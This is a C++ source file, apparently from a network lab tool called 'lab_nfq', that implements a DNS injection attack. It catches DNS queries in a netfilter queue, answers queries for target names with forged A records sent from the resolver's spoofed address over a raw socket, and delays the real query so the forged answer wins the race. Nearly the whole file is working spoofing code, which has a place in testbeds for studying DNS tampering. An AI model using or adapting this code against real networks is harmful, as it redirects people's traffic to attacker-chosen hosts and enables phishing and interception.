// dns_inject.cpp — `lab_nfq inject-dns`: answers queries for the target names
// with a forged A record sent from the resolver's address, then lets the real
// query go on after a delay so the real answer arrives second.
//
// Never modifies the real query; IPv4 only (IPv6 and unparseable packets are
// accepted untouched).
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>
#include <random>

#include "dns_wire.h"
#include "modes.h"
#include "nfq_queue.h"

namespace lab {
namespace {

std::string Endpoint(const IpAddress& address, uint16_t port) {
  return FormatAddress(address) + ":" + std::to_string(port);
}

}  // namespace

int RunInjectDns(const InjectDnsOptions& options) {
  SetLogMode("inject-dns");
  // IPPROTO_RAW implies IP_HDRINCL: we write the IP header (source = the
  // resolver, our TTL and IP-ID) ourselves.
  const int raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (raw < 0) {
    Log(std::string("cannot open a raw IPv4 socket (root needed): ") + std::strerror(errno));
    return 1;
  }
  std::string error;
  auto queue = PacketQueue::Open(QueueOptions{options.queue, 0xffff, 10000}, &error);
  if (!queue) {
    Log(error);
    close(raw);
    return 1;
  }
  std::mt19937 random{std::random_device{}()};
  std::uniform_int_distribution<int> ip_ids(1, 0xffff);

  queue->set_on_release([](uint32_t id, Clock::duration held) {
    Log("released real query (packet " + std::to_string(id) + ") after " +
        std::to_string(std::chrono::duration_cast<std::chrono::microseconds>(held).count() / 1000.0) + " ms");
  });
  Log("queue " + std::to_string(options.queue) + ": forging A " + FormatAddress(options.forged_ip) +
      " with IP TTL " + std::to_string(options.ip_ttl) + ", real queries held " +
      std::to_string(options.delay_real.count()) + " ms");

  const int status = queue->Run([&](const PacketQueue::Packet& packet) {
    auto ip = ParseIp(packet.data);
    if (!ip || ip->src.version != 4 || ip->protocol != kProtoUdp || ip->is_fragment) {
      return queue->Accept(packet.id);
    }
    auto udp = ParseUdp(ip->transport);
    if (!udp || udp->dst_port != 53) return queue->Accept(packet.id);
    const std::string flow = Endpoint(ip->src, udp->src_port) + " -> " + Endpoint(ip->dst, udp->dst_port);
    auto query = ParseDnsQuery(udp->payload);
    if (!query) {
      Log("pass " + flow + ": not a parseable DNS query");
      return queue->Accept(packet.id);
    }
    auto target = options.names.Match(query->qname);
    if (!target) {
      Log("pass " + flow + " id=" + std::to_string(query->id) + " " + query->qname + " type " +
          std::to_string(query->qtype));
      return queue->Accept(packet.id);
    }
    const std::vector<uint8_t> answer = BuildForgedAResponse(*query, options.forged_ip, 60);
    Ipv4UdpSpec spec;
    spec.src = ip->dst;
    spec.dst = ip->src;
    spec.src_port = udp->dst_port;
    spec.dst_port = udp->src_port;
    spec.ttl = options.ip_ttl;
    spec.ip_id = static_cast<uint16_t>(ip_ids(random));
    const std::vector<uint8_t> forged = BuildIpv4Udp(spec, answer);
    sockaddr_in to{};
    to.sin_family = AF_INET;
    std::memcpy(&to.sin_addr, ip->src.bytes.data(), 4);
    const ssize_t sent = sendto(raw, forged.data(), forged.size(), 0, reinterpret_cast<sockaddr*>(&to), sizeof to);
    if (sent < 0) {
      Log("FAILED to send forged answer for " + flow + ": " + std::strerror(errno));
    } else {
      Log("inject " + flow + " id=" + std::to_string(query->id) + " " + query->qname + " type " +
          std::to_string(query->qtype) + " (matched " + *target + "): A " + FormatAddress(options.forged_ip) +
          " ip_ttl=" + std::to_string(spec.ttl) + " ip_id=" + std::to_string(spec.ip_id));
    }
    if (options.delay_real.count() == 0) return queue->Accept(packet.id);
    queue->HoldUntil(packet.id, Clock::now() + options.delay_real);
  });
  close(raw);
  return status;
}

}  // namespace lab
